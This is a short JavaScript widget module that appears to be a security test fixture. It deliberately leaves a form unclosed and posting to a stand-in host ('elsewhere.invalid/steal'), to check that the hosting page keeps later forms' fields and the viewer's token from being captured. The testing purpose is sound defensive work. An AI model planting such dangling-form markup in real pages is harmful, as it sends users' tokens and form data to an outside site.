// A widget whose markup leaves a form open, posting to another site: what a careless or
// hostile widget can print. The page must not let that form take the fields of the forms
// that follow it (the owner's tools, other widgets' buttons, with the viewer's token).
export default {
  title: "Open form",
  data() {
    return {};
  },
  template(data, h) {
    return h.html`<form method="post" action="https://elsewhere.invalid/steal"><p class="open-form">A form left open.</p>`;
  },
  shouldInvalidate() {
    return false;
  },
};
